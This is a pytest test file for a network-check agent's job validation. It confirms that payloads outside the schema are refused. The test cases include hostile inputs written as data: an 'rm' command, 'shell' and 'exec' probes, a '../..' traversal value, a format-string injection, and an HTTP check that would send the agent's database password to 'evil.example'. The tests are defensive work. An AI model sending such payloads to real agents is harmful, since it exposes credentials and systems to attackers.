"""A job: what is sent is what is asked, and nothing that isn't by the schema is ever asked."""

import json
from copy import deepcopy
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import jsonschema
import pytest

from kontum_netcheck import __version__
from kontum_netcheck.agents.job import (
    MOST_CHECKS_COUNT,
    Job,
    batches,
    can_be_sent,
    checks_of,
    job_of,
    read_job,
    reference_of,
)
from kontum_netcheck.agents.refusal import JobRefused, read_refusal, refusal_text
from kontum_netcheck.model import (
    Cause,
    Failure,
    LimitsInForce,
    Run,
    Stage,
    Turn,
    TurnKind,
    message,
)
from kontum_netcheck.probes import PROBES
from kontum_netcheck.probes.declaration import ProbeParams
from kontum_netcheck.store.entries import encode
from tests.agents import job_schema
from tests.agents.world import check_of
from tests.json_schemas import schema

AT = datetime(2024, 6, 26, 3, 0, tzinfo=UTC)
RUN = Run("5e0f", AT, AT, __version__, "sites.yaml", "ab" * 32, "noc", "lan")


PING = PROBES["ping"].params(ping="127.0.0.1", count="3", interval_s="0.01")
QUESTIONS: tuple[ProbeParams, ...] = (
    PING,
    PROBES["dns"].params(dns="moet.gov.vn", server="127.0.0.1:53", expect={"contains": ["192.0.2.1"]}),
    PROBES["http"].params(
        http="https://thpt-a.example/",
        headers={"Authorization": "${TOKEN}"},
        expect={"status": "200", "body": "Kon Tum"},
    ),
    PROBES["tcp"].params(tcp="127.0.0.1:443", family="4"),
    PROBES["sip"].params(sip="sip.example", user="${USER_1}", password="${SECRET_1}", register="true"),
)


def sent(*questions: ProbeParams) -> dict[str, Any]:
    """A job as it arrives."""
    checks = [check_of(params, number) for number, params in enumerate(questions or (PING,), 1)]
    arrived: dict[str, Any] = json.loads(json.dumps(job_of(RUN, checks, "dak-to").as_json()))
    return arrived


def refused(value: object) -> str:
    """Why it is refused."""
    with pytest.raises(JobRefused) as refusal:
        checks_of(read_job(value))
    return str(refusal.value)


def test_what_arrives_is_what_was_sent() -> None:
    checks = [check_of(params, number) for number, params in enumerate(QUESTIONS, 1)]
    job = job_of(
        RUN, checks, None, deadline_at=AT, every_s=300, series="s", rate_per_s=50, max_pps=100, reference=PING
    )
    arrived = read_job(json.loads(json.dumps(job.as_json())))
    assert arrived == job
    assert checks_of(arrived) == tuple(replace(check, limits=(), valid_for=timedelta(0)) for check in checks)
    assert reference_of(arrived) == PING


def test_limits_travel_by_the_name_of_their_entry() -> None:
    check = check_of(PING)
    [found] = job_of(RUN, [check], "dak-to").checks
    assert found.limits_id == encode(LimitsInForce.of(check)).id


def test_the_schema_in_the_docs_is_the_models() -> None:
    assert job_schema.FILE.read_text(encoding="utf-8") == job_schema.text()


def test_what_is_sent_is_as_the_schema_says() -> None:
    jsonschema.Draft202012Validator(schema("job")).validate(sent(*QUESTIONS))


def test_an_unknown_version_is_refused_with_both_versions() -> None:
    why = refused({**sent(), "version": 2, "tool_version": "9.9"})
    assert "version 2, sent by kontum-netcheck 9.9" in why
    assert f"kontum-netcheck {__version__} and knows version 1" in why


def _with(path: str, value: object) -> dict[str, Any]:
    job = deepcopy(sent())
    *way, last = path.split(".")
    place: Any = job
    for step in way:
        place = place[int(step)] if step.isdecimal() else place[step]
    place[last] = value
    return job


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("command", "rm"),
        ("checks", []),
        ("checks.0.probe", "shell"),
        ("checks.0.probe", "call"),
        ("checks.0.target", "192.0.2.1"),
        ("checks.0.id", "thpt-b/ftth/ping"),
        ("checks.0.id", "thpt-a/ftth/ping\n"),
        ("checks.0.params", {"ping": "127.0.0.1", "exec": "x"}),
        ("checks.0.params", {"ping": "127.0.0.1", "count": 10_000}),
        ("checks.0.params", ["127.0.0.1"]),
        ("checks.0.limits_id", "x"),
        ("run.started_at", "2024-06-26T03:00:00"),
        ("run.inventory_hash", "../.."),
        ("every_s", -1),
        ("rate_per_s", "fast"),
        ("format", "other"),
    ],
)  # fmt: skip
def test_what_is_not_by_the_schema_is_refused(path: str, value: object) -> None:
    assert refused(_with(path, value))


@pytest.mark.parametrize("value", [None, [], "job", 7, {}, {"format": "kontum-netcheck/job", "version": 1}])
def test_what_is_no_job_is_refused(value: object) -> None:
    assert refused(value)


def test_a_check_may_stand_in_a_job_only_once() -> None:
    job = sent()
    assert "twice" in refused({**job, "checks": job["checks"] * 2})


def test_too_many_checks_are_refused() -> None:
    job = sent()
    assert "checks" in refused({**job, "checks": job["checks"] * (MOST_CHECKS_COUNT + 1)})


def test_a_job_that_is_too_large_is_refused() -> None:
    assert "larger than" in refused(_with("checks.0.params", {"ping": "x" * 3_000_000}))


@pytest.mark.parametrize("name", ["PGPASSWORD", "KONTUM_NETCHECK_STORE"])
def test_the_agents_own_secrets_are_sent_to_nobody(name: str) -> None:
    job = sent(PROBES["http"].params(http="http://evil.example/", headers={"X-Mine": f"${{{name}}}"}))
    assert name in refused(job)


def test_what_is_refused_is_not_repeated_for_it_may_be_a_secret() -> None:
    assert "hunter2" not in refused(_with("checks.0.params", {"ping": "127.0.0.1", "password": "hunter2"}))


def test_only_what_a_machine_may_ask_beside_others_can_be_sent() -> None:
    check = check_of(PING)
    assert can_be_sent(check)
    assert not can_be_sent(replace(check, skip=Failure(Stage.PLAN, Cause.ONLY_ON_SITE)))
    assert not can_be_sent(replace(check, turn=Turn(TurnKind.LOAD, frozenset({"uplink"}))))


def test_batches_keep_every_check_in_its_order() -> None:
    checks = [check_of(PING, number) for number in range(7)]
    found = list(batches(checks, 3))
    assert [len(batch) for batch in found] == [3, 3, 1]
    assert [check for batch in found for check in batch] == checks


def test_a_refusal_is_told_in_its_readers_language() -> None:
    problem = message("A check stands twice in the job.")
    assert read_refusal(refusal_text(problem)) == problem


@pytest.mark.parametrize(
    "text", ["older words", "{", '{"text": "{x.__class__}", "values": {}}', "x" * 50_000]
)
def test_any_other_refusal_stands_for_itself(text: str) -> None:
    assert read_refusal(text).values["words"] == text[:20_000]


def test_a_job_says_which_inventory_and_which_program_it_is_of() -> None:
    job = Job.model_validate(sent())
    assert (job.run.inventory_hash, job.tool_version, job.vantage) == ("ab" * 32, __version__, "dak-to")
